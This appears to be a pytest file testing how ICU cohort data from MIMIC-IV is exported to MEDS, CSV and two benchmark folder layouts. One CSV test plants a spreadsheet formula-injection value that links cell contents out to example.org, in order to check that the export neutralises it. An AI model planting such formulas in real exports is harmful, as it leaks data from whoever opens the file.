"What is handed on: MEDS by its own schemas, the benchmark's folder as the prior work writes it."
import json
import os
import shutil
from functools import cache
from pathlib import Path

import lineage
import numpy as np
import pandas as pd
import polars as pl
import pyarrow.parquet as pq
import pytest

from lp_nb.data.cohort import Cohort, build_cohort
from lp_nb.data.features import benchmark_names
from lp_nb.data.series import PLACE
from lp_nb.data.sharing import export, last_moments
from lp_nb.data.stays import RULE_PRESETS

ROOT = Path(__file__).parents[1]
SAMPLE = ROOT / 'data' / 'sample'
DEMO = Path(os.environ.get('LPNB_MIMIC_DEMO', ROOT.parent / 'shared' / 'data' / 'mimic-iv-demo'))


@pytest.mark.parametrize('task', ['mortality', 'phenotyping'])
def test_meds_holds_to_the_standard(task, tmp_path):
    from meds import CodeMetadataSchema, DatasetMetadataSchema, DataSchema, LabelSchema, SubjectSplitSchema

    out = export(build_cohort(SAMPLE, task=task, out=tmp_path / 'cohort'), 'meds', tmp_path / 'meds')
    for pattern, schema in (('data/*/*.parquet', DataSchema), ('labels/*/*.parquet', LabelSchema),
                            ('metadata/codes.parquet', CodeMetadataSchema), ('metadata/subject_splits.parquet', SubjectSplitSchema)):
        files = sorted(out.glob(pattern))
        assert files
        for file in files:
            schema.validate(pq.read_table(file))
    DatasetMetadataSchema.validate(json.loads((out / 'metadata/dataset.json').read_text()))


def aces_mortality(folder):
    """(subject_id, prediction time) -> death, as ACES reads the task that the page names, written down from its rule.

    Each ICU admission opens a window of 48 hours; with a discharge or death in it, both ends included, there is no sample. The next
    moment at which somebody is discharged or dies ends the target, and the label is whether a death is among the events of that moment.
    """
    events, found = pd.concat(map(pd.read_parquet, folder.glob('data/*/*.parquet'))).dropna(subset='time'), {}
    ends = events[events['code'].str.contains('^HOSPITAL_DISCHARGE//|^MEDS_DEATH$')]
    ends = {s: part.groupby('time')['code'].agg(lambda c: 'MEDS_DEATH' in set(c)) for s, part in ends.groupby('subject_id')}
    for row in events[events['code'] == 'ICU_ADMISSION'].itertuples():
        moments, until = ends.get(row.subject_id, pd.Series(dtype=bool)), row.time + pd.Timedelta(hours=48)
        inside, after = moments[row.time:until], moments[moments.index > until]
        if inside.empty and len(after):
            found[row.subject_id, until] = bool(after.iloc[0])
    return found


@pytest.mark.parametrize('source', ['sample', 'demo'])
def test_a_task_over_the_export_finds_the_labels(source, tmp_path):
    "The same stays, at the same times, with the same labels, and not from the label files."
    if source == 'demo' and not DEMO.exists():
        pytest.skip(f'no MIMIC-IV demo at {DEMO} (set LPNB_MIMIC_DEMO)')
    cohort = build_cohort(SAMPLE if source == 'sample' else DEMO, out=tmp_path / 'cohort')
    out = export(cohort, 'meds', tmp_path / 'meds')
    times = pd.read_parquet(cohort.dir / 'audit.parquet').set_index('stay_id')['window_end']
    own = dict(zip(zip(cohort.stays['subject_id'], times.loc[cohort.stays.index]), cohort.stays['mortality'] == 1))
    assert aces_mortality(out) == own and 0 < sum(own.values()) < len(own)
    for file in out.glob('labels/*/labels.parquet'):
        table = pd.read_parquet(file)
        assert dict(zip(zip(table['subject_id'], table['prediction_time']), table['boolean_value'])) == own


def test_how_a_life_ended_never_contradicts_the_label(tmp_path):
    "A death by the flag is not later than the discharge; one by a day alone not before a discharge that the patient left alive."
    t = lambda text: pd.Timestamp(f'2150-01-{text}')
    rows = [  # dischtime, deathtime, dod, died -> time of death
        ('05 14:00', '05 13:00', '05', True, '05 13:00'), ('05 14:00', '05 15:00', '05', True, '05 14:00'), ('05 14:00', None, None, True, '05 14:00'),
        ('05 14:00', None, '05', False, '05 23:59:59'), ('05 14:00', None, '03', False, '05 14:00:01'), ('05 14:00', None, None, False, None),
        ('05 14:00', '05 13:00', None, False, '05 23:59:59')]
    stays = pl.DataFrame([dict(subject_id=i, dischtime=t(d), deathtime=e and t(e), dod=o and t(o), died=died) for i, (d, e, o, died, _) in enumerate(rows)],
                         schema_overrides=dict(deathtime=pl.Datetime('us'), dod=pl.Datetime('us'), dischtime=pl.Datetime('us')))
    assert last_moments(stays)['time'].to_list() == [x and t(x) for *_, x in rows]


def test_static_facts_birth_and_admissions(tmp_path):
    "Sex, race and age without a time and first, a birth of the right age, and an admission for every row that belongs to one."
    cohort = build_cohort(SAMPLE, out=tmp_path / 'cohort')
    events = pd.concat(map(pd.read_parquet, export(cohort, 'meds', tmp_path / 'meds').glob('data/*/*.parquet')))
    stays = cohort.stays.sort_index().drop_duplicates('subject_id').set_index('subject_id')
    static = events[events['time'].isna()]
    assert static.groupby('subject_id').size().eq(3).all() and events.groupby('subject_id').head(3)['time'].isna().all()
    told = static[static['code'].str.startswith('GENDER//')].set_index('subject_id')['code'].str.removeprefix('GENDER//')
    assert told.sort_index().equals(stays['gender'].sort_index().rename('code').astype(told.dtype))
    admissions = events[events['hadm_id'].notna()]
    assert set(events[events['hadm_id'].isna()]['code'].str.extract('^([A-Z_]+)')[0]) <= {'GENDER', 'RACE', 'AGE', 'MEDS_BIRTH', 'MEDS_DEATH'}
    pairs = set(zip(admissions['subject_id'], admissions['hadm_id'].astype(int)))
    assert pairs == set(zip(cohort.stays['subject_id'], cohort.stays['hadm_id']))
    born = events[events['code'] == 'MEDS_BIRTH'].set_index('subject_id')['time'].dt.year
    entered = events[events['code'] == 'ICU_ADMISSION'].groupby('subject_id')['time'].min().dt.year
    youngest = cohort.stays.groupby('subject_id')['age'].min()
    assert ((entered - born).sort_index() == youngest.sort_index()).all()
    numbers = static[static['numeric_value'].notna()].set_index('subject_id')  # what MEDS-Tab calls static/first: one, or it ends with an error
    assert set(numbers['code']) == {'AGE//YEARS'} and numbers.index.is_unique
    assert (numbers['numeric_value'].sort_index() == youngest.sort_index()).all()


def test_a_csv_for_people_holds_no_formula(tmp_path):
    "What a table or a note says is shown, not computed, in csv; what machines read is the text to the letter."
    cohort = Cohort(shutil.copytree(build_cohort(SAMPLE, out=tmp_path / 'cohort').dir, tmp_path / 'odd'))
    said = '=HYPERLINK("https://example.org/?" & A1)'
    for name, column, text in (('stays', 'race', said), ('reports', 'text', f'{said}\x07\r\nFINDINGS: none.')):
        table = pd.read_parquet(cohort.dir / f'{name}.parquet')
        table[column] = text
        table.to_parquet(cohort.dir / f'{name}.parquet')
    out = export(cohort, 'csv', tmp_path / 'csv')
    assert set(pd.read_csv(out / 'stays.csv')['race']) == {f"'{said}"}
    assert set(pd.read_csv(out / 'reports.csv')['text']) == {f"'{said} \nFINDINGS: none."}
    events = pd.concat(map(pd.read_parquet, export(cohort, 'meds', tmp_path / 'meds').glob('data/*/*.parquet')))
    assert f'RACE//{said}' in set(events['code']) and f'{said}\x07\r\nFINDINGS: none.' in set(events['text_value'])
    assert set(pd.read_csv(export(cohort, 'medfuse', tmp_path / 'medfuse') / 'root' / 'all_stays.csv')['ethnicity']) == {said}


COMA = {'GCS eye': 4, 'GCS motor': 6, 'GCS verbal': 5}  # highest score


@pytest.mark.parametrize('task', ['mortality', 'phenotyping'])
@pytest.mark.parametrize('preset', list(RULE_PRESETS))
def test_coma_scores_are_scores_in_every_format(preset, task, tmp_path):
    "Numbers lie in the scale's own range and are those of the same rules with scores; the benchmark's files hold its words."
    words = ('categories', 'scores') if preset != 'clean' else ('scores',)
    cohorts = [build_cohort(SAMPLE, task=task, preset=preset, words=w, out=tmp_path / w, work=tmp_path / 'work') for w in words]
    tables = [pd.read_csv(export(c, 'csv', tmp_path / f'csv{k}') / 'series.csv') for k, c in enumerate(cohorts)]
    for table in tables:
        assert table[list(COMA)].notna().any().all()
        for name, most in COMA.items():
            assert table[name].dropna().between(1, most).all(), name
        assert table['GCS total'].equals(table[list(COMA)].sum(axis=1, skipna=False).rename('GCS total'))
        assert np.allclose(table, tables[0], equal_nan=True)
    events = pd.concat(map(pd.read_parquet, export(cohorts[0], 'meds', tmp_path / 'meds').glob('data/*/*.parquet')))
    for name, most in (COMA | {'GCS total': 15}).items():
        values = events[events['code'] == f'{name}//score']['numeric_value']
        assert len(values) and values.between(3 if name == 'GCS total' else 1, most).all(), name
    for file in export(cohorts[0], 'mimic3-benchmarks', tmp_path / 'theirs').glob('**/*_episode*.csv'):
        episode = pd.read_csv(file, keep_default_na=False, dtype=str)
        for channel in ('Glascow coma scale eye opening', 'Glascow coma scale motor response', 'Glascow coma scale verbal response'):
            assert set(episode[channel]) <= {'', *lineage.CHANNELS[channel][1]}, channel


def read_list(path, widths):
    "The lines of a list file after its header, split at commas as its readers do; all as wide as `widths` allows."
    header, *lines = [line.strip().split(',') for line in path.read_text().splitlines()]
    assert lines and {len(line) for line in [header, *lines]} == {widths}
    return header, lines


def read_episode(path):
    "An episode by lines: every row as wide as the header, times ascending; cells as text, missing where empty."
    header, *rows = [line.strip().split(',') for line in path.read_text().splitlines()]
    assert header == ['Hours', *lineage.VARIABLES] and rows and {len(row) for row in rows} == {len(header)}
    frame = pd.DataFrame(rows, columns=header, dtype=object).replace('', None)
    frame['Hours'] = frame['Hours'].astype(float)
    assert frame['Hours'].is_monotonic_increasing
    return frame


def read_benchmark(folder, task):
    "name -> (hours that its discretiser is given, labels): the lists of train and test by the readers of mimic3-benchmarks."
    found = {}
    for part in ('train', 'test'):
        _, lines = read_list(folder / task / part / 'listfile.csv', 2 if task == 'in-hospital-mortality' else 27)
        for name, *rest in lines:
            length = 48.0 if task == 'in-hospital-mortality' else float(rest.pop(0))
            found[folder / task / part / name] = length, [int(y) for y in rest]
    return found


def read_medfuse(folder, task):
    "The same by MedFuse's data set: three lists, labels after the third column, a length of 0 is 48 hours, stays known by their id."
    found, ids = {}, set()
    stays = pd.read_csv(folder / 'root' / 'all_stays.csv')[['subject_id', 'stay_id', 'intime', 'outtime']].set_index('stay_id')
    assert (pd.to_datetime(stays['intime']) < pd.to_datetime(stays['outtime'])).all()
    for part in ('train', 'val', 'test'):
        header, lines = read_list(folder / task / f'{part}_listfile.csv', 4 if task == 'in-hospital-mortality' else 28)
        assert header[:3] == ['stay', 'period_length', 'stay_id']
        for name, length, stay, *labels in lines:
            path = folder / task / ('test' if part == 'test' else 'train') / name
            found[path] = float(length) if float(length) > 0 else 48.0, [int(float(y)) for y in labels]
            assert name.split('_')[0] == str(stays.loc[int(float(stay)), 'subject_id'])
            ids.add(int(float(stay)))
    assert ids == set(stays.index)
    return found


@pytest.mark.parametrize('task', ['mortality', 'phenotyping'])
@pytest.mark.parametrize('preset', ['clean', 'medfuse'])
def test_benchmark_folders_are_read_by_their_own_readers(preset, task, tmp_path):
    "Both folders, line by line: every stay with its labels, and its hours by the benchmark's discretiser those of the cohort."
    cohort = build_cohort(SAMPLE, task=task, preset=preset, out=tmp_path / 'cohort', **dict(empty_series='keep') if preset == 'clean' else {})
    stays, name = cohort.stays, dict(mortality='in-hospital-mortality', phenotyping='phenotyping')[task]
    labels = {f'{r.subject_id}_episode{r.episode}_timeseries.csv': (i, stays.loc[i, cohort.labels].tolist()) for i, r in stays.iterrows()}
    channel = dict(zip(benchmark_names()[59:], range(17)))
    for layout, read in (('mimic3-benchmarks', read_benchmark), ('medfuse', read_medfuse)):
        found = read(export(cohort, layout, tmp_path / layout), name)
        assert {path.name: y for path, (_, y) in found.items()} == {file: y for file, (_, y) in labels.items()}
        for path, (length, _) in found.items():
            stay = labels[path.name][0]
            table = lineage.discretise(read_episode(path), length)
            if preset == 'medfuse':
                assert np.allclose(table, cohort.features(stay), rtol=0, atol=1e-6)
                continue
            i = cohort.stays.index.get_loc(stay)
            values = np.array(cohort.arrays[0][cohort.arrays[1][i]:cohort.arrays[1][i + 1]])
            assert len(table) == len(values)
            for word, place in {'pH': 'pH', 'Heart Rate': 'Heart rate', 'Glascow coma scale verbal response': 'GCS verbal'}.items():
                mask = ~np.isnan(values[:, PLACE[place]])
                assert (table[:, 59 + channel[f'mask->{word}']] == mask).all(), (path.name, word)
            rate = values[:, PLACE['Heart rate']]
            assert np.allclose(table[~np.isnan(rate), benchmark_names().index('Heart Rate')], rate[~np.isnan(rate)])


def test_a_value_of_the_last_minutes_is_inside_the_window(tmp_path):
    "A last hour of ten minutes has its value before the end of the period, where the discretiser still looks."
    cohort = Cohort(shutil.copytree(build_cohort(SAMPLE, task='phenotyping', window='whole', out=tmp_path / 'cohort').dir, tmp_path / 'late'))
    values, ends = np.load(cohort.dir / 'series' / 'values.npy'), cohort.arrays[1][1:] - 1
    values[ends, PLACE['Heart rate']] = 81
    np.save(cohort.dir / 'series' / 'values.npy', values)
    short = (cohort.stays['hours'] - cohort.stays['period'] > 0.5).sum()
    found = read_medfuse(export(cohort, 'medfuse', tmp_path / 'out'), 'phenotyping')
    assert short and all(lineage.discretise(read_episode(p), length)[-1, benchmark_names().index('Heart Rate')] == 81 for p, (length, _) in found.items())


def test_a_stay_without_a_value_has_a_file(tmp_path):
    "Where the rules keep it, both readers find a row and the normal values."
    bare = Cohort(shutil.copytree(build_cohort(SAMPLE, out=tmp_path / 'cohort').dir, tmp_path / 'bare'))
    values = np.load(bare.dir / 'series' / 'values.npy')
    values[:48] = np.nan
    np.save(bare.dir / 'series' / 'values.npy', values)
    first = bare.stays.iloc[0]
    file = f'{first["subject_id"]}_episode{first["episode"]}_timeseries.csv'
    rows = read_episode(next(export(bare, 'medfuse', tmp_path / 'out').glob(f'*/t*/{file}')))
    assert rows['Hours'].tolist() == [0] and rows.drop(columns='Hours').isna().all().all()
    assert lineage.discretise(rows, 48.0)[:, 59:].sum() == 0


@cache
def prior_episodes():
    "What the prior work makes of the open demo, for both tasks."
    return lineage.episodes(DEMO)


@pytest.mark.skipif(not DEMO.exists(), reason=f'no MIMIC-IV demo at {DEMO} (set LPNB_MIMIC_DEMO)')
@pytest.mark.parametrize('task', ['mortality', 'phenotyping'])
def test_the_benchmark_folder_is_that_of_the_prior_work(task, tmp_path):
    "The same list of files, lengths and labels, and the same numbers at the same times."
    cohort = build_cohort(DEMO, task=task, preset='medfuse', out=tmp_path / 'cohort')
    out = export(cohort, 'medfuse', tmp_path / 'out') / dict(mortality='in-hospital-mortality').get(task, task)
    expected = {}
    for episode in prior_episodes():
        made = lineage.sample(episode, task)
        if made is not None:
            expected[f'{episode["subject_id"]}_episode{episode["episode"]}_timeseries.csv'] = (episode, made)
    listed = pd.concat(pd.read_csv(out / part / 'listfile.csv') for part in ('train', 'test')).set_index('stay')
    assert set(listed.index) == set(expected)
    for name, (episode, made) in expected.items():
        row = listed.loc[name]
        labels = row.drop(['period_length', 'stay_id']).astype(int).tolist()
        assert (row['period_length'], row['stay_id'], labels) == (made['period_length'], episode['stay_id'], np.atleast_1d(made['y']).tolist())
        ours = pd.read_csv(next(out.glob(f't*/{name}')), keep_default_na=False, na_values=[''])
        theirs = made['rows'].reset_index(drop=True)
        assert list(ours.columns) == list(theirs.columns) and len(ours) == len(theirs)
        for column in ours:
            a, b = (pd.to_numeric(x[column], errors='coerce') for x in (ours, theirs))
            assert np.allclose(a, b, rtol=0, atol=1e-6, equal_nan=True), (name, column)
            assert (ours[column].astype(object).fillna('')[a.isna()] == theirs[column].astype(object).fillna('')[a.isna()]).all(), (name, column)
